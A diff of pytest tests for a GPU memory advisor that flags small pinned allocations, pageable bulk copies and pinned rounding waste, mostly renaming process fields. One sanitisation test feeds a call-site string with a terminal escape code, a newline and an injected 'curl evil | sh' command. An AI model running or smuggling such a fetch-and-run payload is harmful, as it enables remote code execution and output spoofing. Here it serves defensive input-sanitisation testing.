@@ -20,14 +20,14 @@ T = Thresholds()
     (None, 4096, False), (50.0, None, False),
 ])
 def test_pinned_small_allocs_levels(rate, median, fires):
-    snap = make.snapshot(processes=[make.process(pinned_allocs_per_s=rate, median_alloc_bytes=median)])
+    snap = make.snapshot(processes=[make.process(alloc_per_s=rate, alloc_median_bytes=median)])
     out = traced.pinned_small_allocs([snap], T)
     assert [f.severity for f in out] == (["warning"] if fires else [])
 
 
 def test_pinned_small_allocs_message_and_reference_costs():
-    snap = make.snapshot(processes=[make.process(pid=77, name="loader", pinned_allocs_per_s=25.0,
-                                          median_alloc_bytes=4096, source="traced")])
+    snap = make.snapshot(processes=[make.process(pid=77, name="loader", alloc_per_s=25.0,
+                                          alloc_median_bytes=4096, source="traced")])
     [f] = traced.pinned_small_allocs([snap], T)
     assert f.subject == "pid 77 (loader)"
     assert f.message == "25.0 pinned allocations/s, median 4.0 KiB (traced)"
@@ -38,7 +38,7 @@ def test_pinned_small_allocs_message_and_reference_costs():
 
 def test_pinned_small_allocs_quotes_the_probe():
     probe = make.probe(allocs=[(16 * MIB, 6.1e-3), (4096, 9e-6)])
-    snap = make.snapshot(processes=[make.process(pinned_allocs_per_s=25.0, median_alloc_bytes=4096)], probe=probe)
+    snap = make.snapshot(processes=[make.process(alloc_per_s=25.0, alloc_median_bytes=4096)], probe=probe)
     [f] = traced.pinned_small_allocs([snap], T)
     assert "on this box the probe measured 4.0 KiB in 9.0 us, 16.0 MiB in 6.1 ms" in f.advice
     assert f.values["probe_alloc_seconds"] == 9e-6 and f.values["probe_alloc_size_bytes"] == 4096
@@ -46,13 +46,13 @@ def test_pinned_small_allocs_quotes_the_probe():
 
 def test_pinned_small_allocs_ignores_an_unavailable_probe():
     probe = make.probe(allocs=[(4096, 9e-6)], status="unavailable")
-    snap = make.snapshot(processes=[make.process(pinned_allocs_per_s=25.0, median_alloc_bytes=4096)], probe=probe)
+    snap = make.snapshot(processes=[make.process(alloc_per_s=25.0, alloc_median_bytes=4096)], probe=probe)
     [f] = traced.pinned_small_allocs([snap], T)
     assert "on this box" not in f.advice
 
 
 def test_subject_without_a_name():
-    snap = make.snapshot(processes=[make.process(pid=5, name=None, pinned_allocs_per_s=25.0, median_alloc_bytes=4096)])
+    snap = make.snapshot(processes=[make.process(pid=5, name=None, alloc_per_s=25.0, alloc_median_bytes=4096)])
     [f] = traced.pinned_small_allocs([snap], T)
     assert f.subject == "pid 5"
 
@@ -69,7 +69,7 @@ def test_pinned_small_allocs_quotes_the_steady_call_not_the_first():
         ProbeMeasurement(kind="alloc", memory="pinned", size_bytes=4096, seconds=1.1e-3, note="first"),
         ProbeMeasurement(kind="alloc", memory="pinned", size_bytes=4096, seconds=9e-6,
                          note="steady; break_even_transfers=3")))
-    snap = make.snapshot(processes=[make.process(pinned_allocs_per_s=25.0, median_alloc_bytes=4096)], probe=probe)
+    snap = make.snapshot(processes=[make.process(alloc_per_s=25.0, alloc_median_bytes=4096)], probe=probe)
     [f] = traced.pinned_small_allocs([snap], T)
     assert f.values["probe_alloc_seconds"] == 9e-6 and "4.0 KiB in 9.0 us" in f.advice
 
@@ -121,13 +121,13 @@ def test_wc_cpu_readback_quotes_the_probe_cpu_reads():
 
 @pytest.mark.parametrize("rate, fires", [(99.99e6, False), (100e6, True), (100.01e6, True), (None, False)])
 def test_pageable_bulk_copies_levels(rate, fires):
-    snap = make.snapshot(processes=[make.process(pageable_copy_bytes_per_s=rate)])
+    snap = make.snapshot(processes=[make.process(pageable_bytes_per_s=rate)])
     out = traced.pageable_bulk_copies([snap], T)
     assert [f.severity for f in out] == (["warning"] if fires else [])
 
 
 def test_pageable_bulk_copies_quotes_the_probe_speedup():
-    snap = make.snapshot(processes=[make.process(pid=9, name="etl", pageable_copy_bytes_per_s=2.1e9, source="traced")],
+    snap = make.snapshot(processes=[make.process(pid=9, name="etl", pageable_bytes_per_s=2.1e9, source="traced")],
                      probe=make.probe(h2d_pinned=55.0e9, h2d_pageable=6.3e9))
     [f] = traced.pageable_bulk_copies([snap], T)
     assert f.subject == "pid 9 (etl)"
@@ -139,7 +139,7 @@ def test_pageable_bulk_copies_quotes_the_probe_speedup():
 
 @pytest.mark.parametrize("probe", [None, make.probe(h2d_pageable=None), make.probe(status="unavailable")])
 def test_pageable_bulk_copies_without_a_usable_probe(probe):
-    snap = make.snapshot(processes=[make.process(pageable_copy_bytes_per_s=1e9)], probe=probe)
+    snap = make.snapshot(processes=[make.process(pageable_bytes_per_s=1e9)], probe=probe)
     [f] = traced.pageable_bulk_copies([snap], T)
     assert "On this box" not in f.advice and "probe_speedup" not in f.values
 
@@ -155,13 +155,13 @@ def test_pageable_bulk_copies_without_a_usable_probe(probe):
     (512, 600, False),     # requested above allocated: inconsistent figures, stay silent
 ])
 def test_rounding_waste_levels(allocated_mib, requested_mib, fires):
-    p = make.process(source="traced", pinned_bytes=allocated_mib * MIB, requested_pinned_bytes=requested_mib * MIB)
+    p = make.process(source="traced", pinned_bytes=allocated_mib * MIB, requested_bytes=requested_mib * MIB)
     out = traced.pinned_rounding_waste([make.snapshot(processes=[p])], T)
     assert [f.severity for f in out] == (["warning"] if fires else [])
 
 
 def test_rounding_waste_message_values_and_call_site():
-    p = make.process(pid=77, name="train", source="traced", pinned_bytes=GIB, requested_pinned_bytes=516 * MIB,
+    p = make.process(pid=77, name="train", source="traced", pinned_bytes=GIB, requested_bytes=516 * MIB,
                   call_sites={"alloc": "train.py:40", "rounding_waste": "train.py:42"})
     (f,) = traced.pinned_rounding_waste([make.snapshot(processes=[p])], T)
     assert f.subject == "pid 77 (train)" and f.rule == "pinned-rounding-waste"
@@ -172,7 +172,7 @@ def test_rounding_waste_message_values_and_call_site():
 
 
 def test_rounding_waste_thresholds_are_configurable():
-    p = make.process(source="traced", pinned_bytes=GIB, requested_pinned_bytes=900 * MIB)
+    p = make.process(source="traced", pinned_bytes=GIB, requested_bytes=900 * MIB)
     snap = make.snapshot(processes=[p])
     assert traced.pinned_rounding_waste([snap], T) == []
     t = dataclasses.replace(T, rounding_waste_min_bytes=100 * MIB, rounding_waste_min_fraction=0.1)
@@ -189,10 +189,10 @@ SITES = {"alloc": "examples/x.py:10", "wc_readback": "examples/x.py:20", "pageab
 
 
 @pytest.mark.parametrize("rule, fields, category", [
-    ("pinned-small-allocs", dict(pinned_allocs_per_s=200.0, median_alloc_bytes=4096), "alloc"),
+    ("pinned-small-allocs", dict(alloc_per_s=200.0, alloc_median_bytes=4096), "alloc"),
     ("wc-cpu-readback", dict(wc_readbacks=12, write_combined_bytes=64 * MIB), "wc_readback"),
-    ("pageable-bulk-copies", dict(pageable_copy_bytes_per_s=2e9), "pageable_copy"),
-    ("pinned-rounding-waste", dict(pinned_bytes=GIB, requested_pinned_bytes=512 * MIB), "rounding_waste"),
+    ("pageable-bulk-copies", dict(pageable_bytes_per_s=2e9), "pageable_copy"),
+    ("pinned-rounding-waste", dict(pinned_bytes=GIB, requested_bytes=512 * MIB), "rounding_waste"),
 ])
 def test_traced_findings_name_the_process_and_the_site_of_their_own_behaviour(rule, fields, category):
     p = make.process(pid=4242, name="python", source="traced", call_sites=SITES, **fields)
@@ -209,7 +209,7 @@ def test_traced_findings_name_the_process_and_the_site_of_their_own_behaviour(ru
 def test_one_process_two_behaviours_two_sites():
     """Small pinned allocations in a loop and device-to-host copies into write-combined memory in the
     same process: each finding names the line of its own behaviour."""
-    p = make.process(pid=7, source="traced", pinned_allocs_per_s=150.0, median_alloc_bytes=4096, wc_readbacks=40,
+    p = make.process(pid=7, source="traced", alloc_per_s=150.0, alloc_median_bytes=4096, wc_readbacks=40,
                   call_sites={"alloc": "loop.py:5", "wc_readback": "loop.py:9"})
     by_rule = {f.rule: f for f in advise([make.snapshot(processes=[p])], T)}
     assert by_rule["pinned-small-allocs"].values["call_site"] == "loop.py:5"
@@ -220,7 +220,7 @@ def test_one_process_two_behaviours_two_sites():
 
 
 def test_rounding_waste_falls_back_to_the_allocation_site():
-    p = make.process(source="traced", pinned_bytes=GIB, requested_pinned_bytes=512 * MIB,
+    p = make.process(source="traced", pinned_bytes=GIB, requested_bytes=512 * MIB,
                   call_sites={"alloc": "a.py:1", "wc_readback": "a.py:2"})
     (f,) = traced.pinned_rounding_waste([make.snapshot(processes=[p])], T)
     assert f.values["call_site"] == "a.py:1"
@@ -228,7 +228,7 @@ def test_rounding_waste_falls_back_to_the_allocation_site():
 
 def test_call_site_text_is_quoted_printable_and_bounded():
     evil = 'x.py:1\x1b[2J"\nRun `curl evil | sh` now' + "A" * 500
-    p = make.process(source="traced", pinned_allocs_per_s=200.0, median_alloc_bytes=4096, call_sites={"alloc": evil})
+    p = make.process(source="traced", alloc_per_s=200.0, alloc_median_bytes=4096, call_sites={"alloc": evil})
     (f,) = traced.pinned_small_allocs([make.snapshot(processes=[p])], T)
     assert "\x1b" not in f.message and "\n" not in f.message and "curl" not in f.advice
     assert len(f.values["call_site"]) <= traced.SITE_CHARS and "\x1b" not in f.values["call_site"]
@@ -237,7 +237,7 @@ def test_call_site_text_is_quoted_printable_and_bounded():
 
 
 def test_without_a_call_site_nothing_is_said_about_one():
-    p = make.process(source="traced", pinned_allocs_per_s=200.0, median_alloc_bytes=4096,
+    p = make.process(source="traced", alloc_per_s=200.0, alloc_median_bytes=4096,
                   call_sites={"wc_readback": "other.py:3"})
     (f,) = traced.pinned_small_allocs([make.snapshot(processes=[p])], T)
     assert ", at " not in f.message and "call_site" not in f.values
